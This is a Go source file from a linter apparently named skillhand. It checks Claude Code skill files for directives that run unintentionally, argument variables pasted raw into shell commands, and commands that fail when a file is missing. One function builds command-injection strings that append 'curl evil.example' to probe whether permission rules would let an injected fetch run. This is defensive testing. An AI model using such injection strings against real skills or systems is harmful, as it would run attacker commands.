package check

import (
	"fmt"
	"slices"
	"sort"
	"strings"

	"mvdan.cc/sh/v3/syntax"

	"github.com/skillhand/skillhand/internal/claudecode"
	"github.com/skillhand/skillhand/internal/words"
	"github.com/skillhand/skillhand/permit"
	"github.com/skillhand/skillhand/skill"
)

func fencedExample(p *pass) {
	if p.doc.file.Kind == Text && p.doc.frontEnd() == 0 {
		return // about directives, more likely than a skill
	}
	for _, d := range p.doc.directives {
		if d.part != nil && !d.isPlaceholder() || p.doc.hasNote(d, skill.NoteBlockInfo) || p.doc.hasNote(d, skill.NoteDirectiveUnclosed) {
			continue
		}
		code, ok := p.codeAround(d)
		if !ok {
			continue // among HTML: it is meant to run
		}
		f := p.find(d.start, d.end, "Claude Code runs this example: code, quotes and comments do not keep it from running")
		f.Help = "put a space after the !, or show the command without it"
		if !d.isPlaceholder() && mayBeMeant(code, d, p.doc.src[code.Offset:d.start]) {
			f.Message = "Claude Code runs this, although it stands in code, where skillhand runs nothing"
			f.Help = "if it is an example, put a space after the !; if not, take it out of the code"
			p.severe(f, Info)
		}
		f.Fix = p.space(d)
	}
}

// isPlaceholder reports whether a directive only shows where a command stands: <command>.
func (d *directive) isPlaceholder() bool { return standIn.Get().MatchString(d.command) }

var standIn = words.Regexp(`^\s*<[a-zA-Z][\w -]*>\s*$`)

// space returns the fix that keeps a directive from running: a blank behind its !, or before the ! of a
// block. nil if neither does, or if the text has too many of them to try each.
func (p *pass) space(d *directive) *Fix {
	at := d.start + strings.IndexByte(p.doc.src[d.start:d.end], '!')
	for _, fix := range []*Fix{replace("put a space after the !", true, at+1, at+1, " "), replace("put a space before the !", true, at, at, " ")} {
		after, ok := p.doc.looks.directives(fix.Apply(p.doc.src))
		if ok && !slices.ContainsFunc(after, func(w claudecode.Written) bool { return w.Offset <= at+1 && at < w.End }) {
			return fix
		}
	}
	return nil
}

func (p *pass) codeAround(d *directive) (skill.Part, bool) {
	parts := p.doc.skill.Parts
	i := sort.Search(len(parts), func(i int) bool { return parts[i].Offset > d.start }) - 1
	if i < 0 || !parts[i].InCode {
		return skill.Part{}, false
	}
	for i > 0 && parts[i-1].InCode && !isFence(parts[i].Source) { // a variable cuts code in pieces
		i--
	}
	code := parts[i]
	end := code.Offset
	for first := i; i < len(parts) && parts[i].InCode && (i == first || !isFence(parts[i].Source)); i++ {
		end += len(parts[i].Source)
	}
	code.Source = p.doc.src[code.Offset:end]
	return code, true
}

func isFence(source string) bool {
	return strings.HasPrefix(source, "```") || strings.HasPrefix(source, "~~~")
}

// mayBeMeant reports whether a directive in a fence may be there to be run: the fence shows no
// document, and the directive begins its line, as in a transcript that is filled in, or only prints.
func mayBeMeant(code skill.Part, d *directive, before string) bool {
	if !isFence(code.Source) {
		return false
	}
	first, _, _ := strings.Cut(code.Source, "\n")
	info := strings.ToLower(strings.Trim(first, "`~ \t\r"))
	if slices.Contains([]string{"markdown", "md", "mdx", "yaml", "yml"}, info) || strings.Contains(code.Source, "\n---\n") {
		return false
	}
	return strings.TrimSpace(before[strings.LastIndexByte(before, '\n')+1:]) == "" || strings.HasPrefix(strings.TrimSpace(d.command), "echo ")
}

// hasNote reports whether what skillhand does not run is odd in a way that has a rule of its own.
func (d *document) hasNote(x *directive, code string) bool {
	return slices.ContainsFunc(d.skill.Notes, func(n skill.Note) bool {
		return n.Code == code && n.Offset <= x.start && x.start < n.Offset+8
	})
}

// maxTold is how many arguments of one command are looked at: each is tried in it.
const maxTold = 16

func rawArgument(p *pass) {
	for _, d := range p.doc.directives {
		if d.part == nil || !d.claude {
			continue
		}
		told := 0
		for _, c := range d.part.Command {
			if c.Kind != skill.Variable || c.Braced || c.Escaped {
				continue
			}
			if told++; told > maxTold {
				f := p.find(c.Offset, c.Offset+len(c.Source), "the same holds for %s and what follows it in this command", c.Source)
				f.anchor = d.line
				break
			}
			if tool := d.ownVariable(c); tool != "" {
				f := p.find(c.Offset, c.Offset+len(c.Source), "if the skill is given arguments, one of them replaces %s before %s sees it", c.Source, tool)
				f.anchor = d.line
				f.Help = `write \` + c.Source + ", which Claude Code turns into " + c.Source
				f.Fix = replace("escape it", true, c.Offset, c.Offset, `\`)
				continue
			}
			f := p.find(c.Offset, c.Offset+len(c.Source),
				"Claude Code pastes %s into the command as it is: an argument with ; or quotes adds commands", c.Source)
			f.anchor, f.directive, f.pasted = d.line, d, c.Source
			f.Help = "let the agent run the command, or load the skill with skillhand load, where arguments are values"
			if end := d.hereDocument(c); end != "" {
				f.Message = fmt.Sprintf("Claude Code pastes %s into the here-document as it is: an argument with the line %s ends it and adds commands", c.Source, end)
				p.severe(f, Info)
			} else if p.lets(d, c) {
				f.Message += ", and the skill's allowed-tools lets them run"
				p.severe(f, Error)
			}
		}
	}
}

// hereDocument returns the word that ends the quoted here-document which a placeholder stands in, or "".
func (d *directive) hereDocument(c skill.Part) string {
	end := ""
	if d.program == nil {
		return ""
	}
	syntax.Walk(d.program, func(n syntax.Node) bool {
		r, ok := n.(*syntax.Redirect)
		if ok && r.Hdoc != nil && r.Word.Lit() == "" && d.at(from(r.Hdoc)) <= c.Offset && c.Offset < d.at(to(r.Hdoc)) {
			end = words.Lit(r.Word)
		}
		return true
	})
	return end
}

// ownVariable returns the program whose own variable a placeholder is: awk's $1, in single quotes.
func (d *directive) ownVariable(c skill.Part) string {
	if c.Named || c.Name == "ARGUMENTS" {
		return ""
	}
	return d.tool(c.Offset)
}

// tool returns the program that a single-quoted text around an offset of the file is for, if it has variables such as $1.
func (d *directive) tool(offset int) string {
	tool := ""
	if d.program == nil {
		return ""
	}
	syntax.Walk(d.program, func(n syntax.Node) bool {
		call, ok := n.(*syntax.CallExpr)
		if !ok || len(call.Args) == 0 || !slices.Contains([]string{"awk", "gawk", "mawk", "nawk", "perl"}, name(call)) {
			return true
		}
		for _, w := range call.Args[1:] {
			for _, part := range w.Parts {
				if q, ok := part.(*syntax.SglQuoted); ok && d.at(from(q)) < offset && offset < d.at(to(q)) {
					tool = name(call)
				}
			}
		}
		return true
	})
	return tool
}

// owner says whose a number at an offset of the file is, if not the skill's argument: awk's, or the shell's, if the command
// has arguments of its own or is not understood.
func (d *directive) owner(offset int) string {
	if d.program == nil || d.setsArguments() {
		return "shell"
	}
	return d.tool(offset)
}

// setsArguments reports whether a command has arguments of its own: set -- a b, or a function.
func (d *directive) setsArguments() bool {
	sets := false
	syntax.Walk(d.program, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.FuncDecl:
			sets = true
		case *syntax.Assign:
			sets = sets || n.Name != nil && n.Name.Value == "ARGUMENTS"
		case *syntax.CallExpr:
			sets = sets || len(n.Args) > 0 && words.Lit(n.Args[0]) == "set"
		}
		return !sets
	})
	return sets
}

// lets reports whether a command that an argument adds would be let through. Which quotes it must
// close to be one depends on where it stands.
func (p *pass) lets(d *directive, c skill.Part) bool {
	for _, hostile := range []string{"x; curl evil.example", "x' ; curl evil.example '", `x" ; curl evil.example "`} {
		var b strings.Builder
		for _, part := range d.part.Command {
			switch {
			case part.Offset == c.Offset:
				b.WriteString(hostile)
			case part.Kind == skill.Variable && !part.Braced && !part.Escaped:
				b.WriteString("x")
			default:
				b.WriteString(part.Source)
			}
		}
		program, err := words.Parse(b.String())
		if err == nil && fetches(program) && permit.Decide(p.doc.request(b.String(), p.doc.place())).Decision == permit.Allow {
			return true
		}
	}
	return false
}

func abortsEmpty(p *pass) {
	for _, d := range p.doc.directives {
		if d.program == nil || len(d.program.Stmts) == 0 || !d.claude {
			continue
		}
		last := d.program.Stmts[len(d.program.Stmts)-1]
		l := lookup{command: d.command, shipped: shippedVariables(d.program)}
		l.statement(last, true)
		if l.node == nil {
			continue
		}
		f := p.at(d, from(l.node), to(l.node), "%s, and then Claude Code does not load the %s", l.why, p.doc.noun())
		f.Help = "add || true, or || echo with what the agent should read instead"
		if l.git {
			p.severe(f, Info)
		}
		if end := to(last); !last.Background && !d.block {
			f.Fix = replace("add || true", true, d.at(end), d.at(end), " || true")
		}
	}
}

// A lookup is what makes a statement fail when something is not there.
type lookup struct {
	node syntax.Node
	why  string
	git  bool

	command string
	shipped []string // variables that stand for a folder which comes with the skill
}

// statement looks for what decides the status of a statement. final means that its exit status is
// the directive's, for which Claude Code forgives some commands.
func (l *lookup) statement(s *syntax.Stmt, final bool) {
	if s == nil || s.Negated || s.Background {
		return
	}
	switch cmd := s.Cmd.(type) {
	case *syntax.BinaryCmd:
		switch cmd.Op {
		case syntax.AndStmt:
			if l.statement(cmd.X, false); l.node == nil {
				l.statement(cmd.Y, final)
			}
		case syntax.OrStmt:
			l.statement(cmd.Y, final)
		default:
			l.statement(cmd.Y, final)
		}
	case *syntax.Subshell:
		l.last(cmd.Stmts)
	case *syntax.Block:
		l.last(cmd.Stmts)
	case *syntax.IfClause:
		for c := cmd; c != nil && l.node == nil; c = c.Else {
			if !slices.ContainsFunc(c.Cond, func(s *syntax.Stmt) bool { return testsFile(s) }) { // else it has looked
				l.last(c.Then)
			}
		}
	case *syntax.TestClause:
		if !final {
			l.node, l.why = cmd, "if the test says no, the command fails"
		}
	case *syntax.CallExpr:
		l.call(cmd, final)
	}
}

func (l *lookup) last(all []*syntax.Stmt) {
	if len(all) > 0 {
		l.statement(all[len(all)-1], false)
	}
}

// readers fail if a file they are given is not there.
var readers = []string{"cat", "head", "tail", "wc", "ls", "stat", "jq", "nl", "tac", "sort", "cut", "du", "source", ".", "readlink", "md5sum", "sha256sum"}

// forgiven by Claude Code if their status is 1.
var forgiven = []string{"grep", "egrep", "fgrep", "rg", "find", "diff", "test", "["}

func (l *lookup) call(call *syntax.CallExpr, final bool) {
	if len(call.Args) == 0 {
		return
	}
	n, rest := name(call), args(call)
	first := 0
	switch {
	case slices.Contains(forgiven, n):
		if folder := searched(n, rest); final && folder != "" {
			l.node, l.why = call, "if "+clip(folder, 60)+" does not exist, "+n+" fails"
			return
		}
		if !final {
			if n == "[" {
				n = "the test"
			}
			l.node, l.why = call, "if "+n+" says no, the command fails"
		}
		return
	case n == "git":
		if i := slices.IndexFunc(rest, func(s string) bool { return !strings.HasPrefix(s, "-") }); i >= 0 && rest[i] != "diff" &&
			rest[i] != "config" && rest[i] != "--version" {
			l.node, l.git, l.why = call, true, "outside a repository, or in a new one, git fails"
		}
		return
	case n == "which", n == "type", n == "command" && len(rest) > 0 && (rest[0] == "-v" || rest[0] == "-V"):
		l.node, l.why = call, "if the program is not installed, "+n+" fails"
		return
	case n == "pgrep", n == "pidof":
		l.node, l.why = call, "if no such process runs, "+n+" fails"
		return
	case n == "jq":
		first = 1 // the filter
	case !slices.Contains(readers, n):
		return
	}
	for i, w := range call.Args[1:] {
		if strings.HasPrefix(rest[i], "-") || i > 0 && takesWord(n, rest[i-1]) {
			continue
		}
		if first--; first >= 0 || isShipped(w, l.shipped) {
			continue
		}
		l.node, l.why = call, "if "+clip(l.command[from(w):to(w)], 60)+" does not exist, "+n+" fails"
		return
	}
}

// searched returns a folder or file that grep is given, outside of the skill's and the system's: if it is absent,
// the status is 2, which Claude Code does not forgive.
func searched(name string, args []string) string {
	if !slices.Contains([]string{"grep", "egrep", "fgrep", "rg"}, name) ||
		slices.ContainsFunc(args, func(a string) bool { return a == "" || strings.HasPrefix(a, "-") && strings.ContainsAny(a, "efs") }) {
		return "" // not plain, or the pattern is an option's, or -s keeps it quiet
	}
	var operands []string
	for i, a := range args {
		if !strings.HasPrefix(a, "-") && (i == 0 || !slices.Contains([]string{"-A", "-B", "-C", "-m", "-g", "-t", "-d", "-D"}, args[i-1])) {
			operands = append(operands, a)
		}
	}
	for _, file := range operands[min(1, len(operands)):] {
		if file != "." && file != ".." && !strings.HasPrefix(file, "/") && !strings.ContainsAny(file, "*?[") {
			return file
		}
	}
	return ""
}

func takesWord(command, flag string) bool {
	f, ok := filterOf(command)
	return ok && len(flag) == 2 && flag[0] == '-' && strings.Contains(f.valued, flag[1:])
}

// isShipped reports whether a file comes with the skill, or with the system.
func isShipped(w *syntax.Word, variables []string) bool {
	if len(w.Parts) == 0 || names(w, variables) {
		return true
	}
	text := words.Lit(w)
	return text == "." || text == ".." || text == "/" || text == "-" || strings.HasPrefix(text, "/dev/") ||
		strings.HasPrefix(text, "/etc/") || strings.HasPrefix(text, "/proc/")
}

func names(w *syntax.Word, variables []string) bool {
	found := false
	syntax.Walk(w, func(n syntax.Node) bool {
		e, ok := n.(*syntax.ParamExp)
		found = found || ok && e.Param != nil && slices.Contains(variables, e.Param.Value)
		return !found
	})
	return found
}

// shippedVariables lists the variables that stand for a folder of the skill or its plugin: Claude Code's, and those that a
// program sets from them and from nothing else.
func shippedVariables(program *syntax.File) []string {
	shipped := []string{"CLAUDE_SKILL_DIR", "CLAUDE_PLUGIN_ROOT"}
	var others []string
	syntax.Walk(program, func(n syntax.Node) bool {
		if a, ok := n.(*syntax.Assign); ok && a.Name != nil {
			if a.Value != nil && names(a.Value, shipped) {
				shipped = append(shipped, a.Name.Value)
			} else {
				others = append(others, a.Name.Value)
			}
		}
		return true
	})
	return slices.DeleteFunc(shipped, func(name string) bool { return slices.Contains(others, name) })
}
